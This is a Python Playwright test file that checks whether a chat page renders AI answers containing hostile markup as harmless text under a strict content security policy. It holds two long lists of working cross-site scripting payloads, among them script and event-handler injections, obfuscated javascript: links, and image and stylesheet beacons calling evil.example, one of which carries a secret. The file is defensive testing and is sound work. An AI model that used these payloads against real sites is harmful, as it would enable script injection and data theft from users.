"""Hostile text in the page: nothing in an answer runs, and nothing leaves."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import expect

from core.contract import Prompt, Text
from tests.support.fake_engine import ReplyStep
from tests.web.pages.support_visit import DONE, Visiting

pytestmark = pytest.mark.asyncio(loop_scope="package")  # the browser lives in that loop


ATTACKS = """<script>pwned = 1; fetch('https://evil.example/s')</script>
<img src="https://evil.example/a.png" onerror="pwned = 1">

<svg onload="pwned = 1"><style>@import 'https://evil.example/c.css'</style></svg>

<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><base href="https://evil.example/">

![pixel](https://evil.example/b.png?SECRET) ![ref][r] [click](javascript:pwned=1)
[data](data:text/html,<script>1</script>)

[entity](&#106;avascript:pwned=1) <javascript:pwned=1> [tab](java\tscript:pwned=1) [file](file:///etc/passwd)

[bank.example](https://evil.example/login) <https://bank.example@evil.example/> ["](https://evil.example/"onmouseover="pwned=1)

`<img src=x onerror=pwned=1>` <a href="https://evil.example" ping="https://evil.example/p" onclick="pwned=1">x</a>

- [ ] <form action="https://evil.example"><input autofocus onfocus="pwned=1"></form>

| <img src=x onerror=pwned=1> | b |
|---|---|
| <link rel=stylesheet href=https://evil.example/d.css> | <meta http-equiv=refresh content=0;url=https://evil.example> |

```html"><img src=x onerror=pwned=1>
</code></pre><img src=x onerror=pwned=1>
```

[r]: https://evil.example/e.png "x"
"""


@pytest.mark.parametrize("size", [1, 10_000])
async def test_markup_in_an_answer_does_nothing(visiting: Visiting, size: int) -> None:
    """Scripts, handlers, images, styles and forms stay text, for any cut of the answer. Links are plain."""
    pieces = [ATTACKS[start : start + size] for start in range(0, len(ATTACKS), size)]
    async with visiting([*map(Text, pieces), DONE]) as visit:
        await visit.ask("attack")
        await visit.wait_for_answer()
        await visit.page.locator(".answer .body").last.hover()

        answer = visit.page.locator(".answer .body").last
        tags = await answer.locator("*").evaluate_all("all => [...new Set(all.map(e => e.localName))]")
        assert set() == set(tags) - {
            *[
                "a",
                "bdi",
                "br",
                "button",
                "code",
                "div",
                "li",
                "p",
                "pre",
                "span",
                "table",
                "tbody",
                "td",
                "th",
                "thead",
                "tr",
                "ul",
            ]
        }
        attributes = await answer.locator("*").evaluate_all("all => all.flatMap(e => e.getAttributeNames())")
        allowed = {
            "href",
            "target",
            "rel",
            "class",
            "tabindex",
            "role",
            "type",
            "aria-label",
            "data-label",
            "data-text",
            "lang",
            "scope",
        }
        assert set() == set(attributes) - allowed
        links = await answer.locator("a").evaluate_all(
            "all => all.map(a => [a.protocol, a.rel, a.target, a.innerText])"
        )
        assert links
        for protocol, rel, target, shown in links:
            assert (protocol, rel, target) == ("https:", "noopener noreferrer nofollow", "_blank")
            assert "(evil.example)" in shown or re.match(r"https://evil\.example[/\s]", shown)
        assert await visit.page.evaluate("() => globalThis.pwned === undefined")
        await expect(answer).to_contain_text("![pixel](https://evil.example/b.png?SECRET)")


EVIL = "https://evil.example/x"
PWN = "globalThis.pwned=1"
HOSTILE = [
    f"<script>{PWN}</script>",
    f"<script src={EVIL}></script>",
    f"<ScRiPt\n>{PWN}</sCrIpT\n>",
    f"<img src=x onerror={PWN}>",
    f"<img/src={EVIL}/onerror={PWN}>",
    f"<svg/onload={PWN}>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>",
    f"<iframe src='javascript:{PWN}'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<video src={EVIL} poster={EVIL} autoplay></video><audio src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}><style>*{{background:url({EVIL})}}</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<form action={EVIL}><input autofocus onfocus={PWN}></form>",
    f"<details open ontoggle={PWN}>x</details>",
    f"<p style='background:url({EVIL})'>x</p>",
    f"<template><script>{PWN}</script></template>",
    f"<!--><img src=x onerror={PWN}>-->",
    f"<![CDATA[><img src=x onerror={PWN}>]]>",
    f"![x]({EVIL}.png)",
    f"![x][r]\n\n[r]: {EVIL}.png",
    f"[![x]({EVIL}.png)]({EVIL})",
    f"![x](<{EVIL}.png> 'title')",
    f"[x](javascript:{PWN})",
    f"[x](JaVaScRiPt:{PWN})",
    f"[x](&#x6A;avascript:{PWN})",
    f"[x](java&Tab;script:{PWN})",
    f"[x](\x01javascript:{PWN})",
    f"[x](vbscript:{PWN}) [y](data:text/html,<script>{PWN}</script>) [z](blob:{EVIL})",
    f'[x]({EVIL}"onmouseover="{PWN})',
    f"[x]({EVIL} '\"><img src=x onerror={PWN}>')",
    f'<javascript:{PWN}> <{EVIL}"onclick="{PWN}>',
    f"[x][r]\n\n[r]: javascript:{PWN}",
    f'```"><img src=x onerror={PWN}>\n</code></pre><img src=x onerror={PWN}>\n```',
    f"```html\n<script>{PWN}</script><img src={EVIL}>\n```",
    f"`<img src=x onerror={PWN}>` **<img src=x onerror={PWN}>**",
    f"| <img src=x onerror={PWN}> | b |\n|---|---|\n| <script>{PWN}</script> | [x](javascript:{PWN}) |",
    f"# <img src=x onerror={PWN}>\n\n- [ ] <svg onload={PWN}>\n\n> <script>{PWN}</script>\n\n$<img src=x>$",
]


async def test_forty_hostile_answers_do_nothing(visiting: Visiting) -> None:
    """No script runs and no request leaves, while the answers grow and after: they are text and plain links."""
    answers = iter(HOSTILE)

    def reply(_: Prompt) -> list[ReplyStep]:
        text = next(answers)
        return [*(Text(text[start : start + 9]) for start in range(0, len(text), 9)), DONE]

    async with visiting(reply) as visit:
        for count, _ in enumerate(HOSTILE, 1):
            await visit.ask(f"attack {count}")
            await expect(visit.page.locator(".question")).to_have_count(count)
            await visit.wait_for_answer()

        bodies = visit.page.locator(".answer .body")
        loaded = "script, img, svg, math, iframe, object, embed, video, audio, link, style, meta, base, form, template"
        await expect(bodies.locator(loaded)).to_have_count(0)
        assert await bodies.locator("a").evaluate_all("all => [...new Set(all.map((a) => a.protocol))]") == ["https:"]
        names = await bodies.locator("*").evaluate_all("all => all.flatMap((e) => e.getAttributeNames())")
        assert [name for name in names if re.match("on|(style|src|title)$", name)] == []
        assert await visit.page.evaluate("() => globalThis.pwned === undefined")
        assert len(HOSTILE) == 40


async def test_the_page_runs_under_a_strict_policy(visiting: Visiting) -> None:
    """The browser blocks inline scripts, and markup from a plain string."""
    async with visiting([DONE]) as visit:
        blocked = await visit.page.evaluate(
            """() => {
                try { document.createElement('p').innerHTML = '<b>x</b>'; return false; }
                catch (error) { return error instanceof TypeError; }
            }"""
        )
        policy = (await visit.page.request.get(f"{visit.origin}/static/index.html")).headers["content-security-policy"]
        visit.problems.clear()  # the browser logs the attempt above

        assert blocked
        directives = {name: rest for name, _, rest in (part.strip().partition(" ") for part in policy.split(";"))}
        assert (directives["default-src"], directives["script-src"]) == ("'none'", "'self'")
